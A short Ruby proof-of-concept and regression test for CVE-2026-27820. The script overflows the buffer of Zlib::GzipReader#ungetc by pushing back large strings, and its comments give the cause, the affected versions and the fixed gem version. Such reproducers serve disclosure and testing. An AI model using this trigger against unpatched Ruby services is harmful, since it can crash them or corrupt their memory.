# zlib-ungetc.rb - CVE-2026-27820: Zlib::GzipReader#ungetc writes beyond its buffer.
#
#   ruby --disable-gems zlib-ungetc.rb
#
# What is pushed back goes before what has been unpacked and not read, which is moved up, without room having been made. zlib
# 3.2.1 of MRI 3.4.5 ends with "[BUG] probable buffer overflow: 299999 for 107472". Mended in the gem zlib 3.2.3.

require "stringio"
require "zlib"

packed = Zlib.gzip("a" * 100_000)
100.times do |i|
  reader = Zlib::GzipReader.new(StringIO.new(packed))
  reader.read(1 + i)
  reader.ungetc("x" * 200_000)
  reader.ungetc("y" * 1_000_000)
  raise "wrong" unless reader.read == "y" * 1_000_000 + "x" * 200_000 + "a" * (99_999 - i)
end
puts "ok"
